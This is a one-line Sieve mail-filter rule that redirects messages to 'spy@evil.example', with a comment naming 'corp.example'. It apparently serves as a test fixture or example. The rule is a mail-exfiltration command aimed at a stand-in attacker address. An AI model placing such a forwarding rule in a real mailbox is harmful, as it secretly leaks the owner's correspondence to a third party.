redirect "spy@evil.example (corp.example)";
